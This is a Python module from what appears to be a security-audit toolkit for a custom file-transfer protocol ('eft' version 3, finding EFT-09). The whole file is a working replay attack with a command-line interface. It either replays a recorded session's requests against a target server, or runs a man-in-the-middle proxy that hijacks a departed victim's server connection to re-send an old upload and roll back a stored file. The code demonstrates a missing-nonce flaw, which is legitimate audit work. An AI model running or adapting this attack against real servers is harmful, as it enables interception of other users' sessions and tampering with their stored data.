"""Replay a recorded upload: nothing in version 3 is fresh except the AES key.

Requests carry no nonce, counter, timestamp or MAC, so the server cannot tell a replayed
828 from a new one. Two ways to replay:

* ``--recording`` with ``--target``: replay the recorded connection's requests, in
  order, on a new connection, waiting for as many answers as the original got. A
  server that issues a new AES key on every 826/827 (as the spec says) decrypts the
  replayed ciphertext under the wrong key, so this only works against servers that
  reuse keys, e.g. one that keeps the last key per client id.
* ``--listen`` (man in the middle): relay the victim's session, then, once the client
  has gone, replay one of its uploads (``--file``, ``--nth``) and a 900 on the server
  connection it left behind, which still holds the session's key. The server stores
  the old file again: an upload replaced later in the session is rolled back.

Success: the server answered the replayed upload with the recorded CRC and the 900
with 1604, i.e. it stored the recorded file again.
"""

from __future__ import annotations

import argparse
from pathlib import Path

from eft_protocol.codes import RequestCode, ResponseCode

from .common import AttackError, ConnectionClosed, Link, Out, ServerLink, add_listen_argument
from .framing import Frame, name_request
from .proxy import Hijack, MitmConnection, MitmProxy
from .recording import Attempt, SessionView, load_sessions

FINDING = "EFT-09"
SUMMARY = "replay a recorded upload: the server stores the file again"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    add_listen_argument(parser)
    parser.add_argument("--recording", help="replay this recording on a new connection")
    parser.add_argument("--file", help="the file whose upload to replay (default: the first)")
    parser.add_argument("--nth", type=int, default=1, help="which upload of that file (1)")


def choose(view: SessionView, name: str | None, nth: int) -> Attempt:
    verified = [a for a in view.attempts if a.verified and (name is None or a.file_name == name)]
    if len(verified) < nth:
        raise AttackError(f"the session has no verified upload number {nth} of {name or 'a file'}")
    return verified[nth - 1]


async def replay_upload(link: Link, client_id: bytes, attempt: Attempt, out: Out) -> bool:
    """Send one recorded upload and its 900 again on a connection that has its key."""
    await link.send(*(frame.raw for frame in attempt.packets))
    answer = await link.receive()
    recorded = attempt.cksum
    if answer.code != ResponseCode.FILE_RECEIVED:
        return out.result(False, f"the server refused the replayed upload ({answer.code})")
    crc = answer.file_received().cksum
    out.step(f"replayed {attempt.file_name!r}: 1603", cksum=crc, recorded_cksum=recorded)
    if crc != recorded:
        await link.send(name_request(client_id, RequestCode.CRC_GIVE_UP, attempt.file_name))
        return out.result(False, "the server decrypted the replay to something else")
    await link.send(name_request(client_id, RequestCode.CRC_OK, attempt.file_name))
    ack = await link.receive()
    stored = ack.code == ResponseCode.ACKNOWLEDGED
    return out.result(
        stored,
        f"the server {'stored' if stored else 'did not store'} {attempt.file_name!r} again "
        f"({attempt.orig_size} bytes, cksum {crc})",
        file_name=attempt.file_name,
        cksum=crc,
    )


def conversation(view: SessionView) -> list[tuple[Frame, int]]:
    """Each recorded request with the number of responses that followed it."""
    turns: list[tuple[Frame, int]] = []
    for _, frame in view.events:
        if frame.is_request:
            turns.append((frame, 0))
        elif turns:
            turns[-1] = (turns[-1][0], turns[-1][1] + 1)
    return turns


async def replay_recording(link: ServerLink, view: SessionView, out: Out) -> bool:
    recorded = [a.cksum for a in view.attempts if a.cksum is not None]
    stored: list[str] = []
    codes: list[int] = []
    last_crc: int | None = None
    try:
        for frame, answers in conversation(view):
            await link.send(frame.raw)
            for _ in range(answers):
                answer = await link.receive(5.0)
                codes.append(answer.code)
                if answer.code == ResponseCode.FILE_RECEIVED:
                    last_crc = answer.file_received().cksum
                ok = answer.code == ResponseCode.ACKNOWLEDGED and frame.code == RequestCode.CRC_OK
                if ok and last_crc in recorded:
                    stored.append(frame.name_field())
    except ConnectionClosed:
        codes.append(-1)
    out.step("the server answered the replay", answers=codes)
    if stored:
        return out.result(True, f"the server stored {stored} again from the replay", files=stored)
    return out.result(
        False,
        "the replay stored nothing: the server's answers never repeated the recorded "
        "1603 CRC followed by 1604",
        answers=codes,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.recording:
        sessions = load_sessions(Path(args.recording))
        view = next((v for v in sessions if v.attempts), None)
        if view is None:
            raise AttackError("the recording holds no upload")
        link = await ServerLink.open(args.target)
        try:
            return await replay_recording(link, view, out)
        finally:
            await link.close()

    async def after(conn: MitmConnection, view: SessionView) -> bool:
        attempt = choose(view, args.file, args.nth)
        assert view.client_id is not None
        out.step("the victim left; replaying on its server connection", file=attempt.file_name)
        return await replay_upload(conn, view.client_id, attempt, out)

    return await MitmProxy(args.target, Hijack(after), out).run(args.listen, args.timeout)
